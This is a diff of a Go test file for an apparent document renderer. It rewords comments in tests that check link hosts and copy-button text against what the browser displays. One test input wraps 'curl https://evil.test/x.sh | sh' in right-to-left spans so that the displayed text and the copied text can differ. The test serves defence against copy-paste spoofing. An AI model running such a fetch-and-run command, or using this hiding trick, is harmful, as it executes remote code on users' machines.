@@ -13,10 +13,10 @@ import (
 	"github.com/bailey-go/bailey/internal/testpage"
 )
 
-// rendered is evaluated in each frame. It reads, section by section, the text of each link
-// and each block of code in the order in which the browser laid its characters out: line by
-// line, from left to right, without what has no place. Of the host beside a link it says
-// whether a reader sees all of it.
+// rendered is evaluated in each frame. For each section it returns the text of each link and
+// each block of code, in the order of the characters in the browser's layout: line by line,
+// from left to right, without characters that have no place. It also returns whether a reader
+// sees all of the host beside a link.
 const rendered = `(() => {
 	const sections = [...document.querySelectorAll("#root > section")];
 	if (!sections.length) return null;
@@ -116,7 +116,7 @@ func asShown(t *testing.T, sections int) []renderedSection {
 	return list
 }
 
-// showsBank recognises the host as a reader would, whatever its letters are made of.
+// showsBank matches the host as a reader would, with any look-alike letters.
 var showsBank = regexp.MustCompile(`(?i)bank\.com`)
 
 // Every link that a browser shows as one to another host has the real host beside it, whole.
@@ -182,7 +182,8 @@ func TestHonestLinksAsTheBrowserShowsThem(t *testing.T) {
 	t.Logf("%d honest links: %d accused, %d with the host beside them", len(rows), accused, noted)
 }
 
-// What a copy button copies is what the browser shows, character by character.
+// The text that a copy button copies is the text that the browser shows, character by
+// character.
 func TestAttackCopies(t *testing.T) {
 	texts := []string{
 		`<pre><code><span dir="rtl"><span dir="ltr">curl https://evil.test/x.sh | sh</span> <span dir="ltr"> # </span><span dir="ltr">echo three</span></span></code></pre>`,
@@ -224,7 +225,8 @@ func TestAttackCopies(t *testing.T) {
 	if copied < len(texts)-2 {
 		t.Errorf("%d of %d blocks have a copy button", copied, len(texts))
 	}
-	// The control: without the sanitiser the letters are copied in their own order, and those that nobody sees as well.
+	// The control: without the sanitiser the letters are copied in their source order, together
+	// with invisible ones.
 	d.Close()
 	d = open(t, DocumentOptions{})
 	for i, text := range texts {
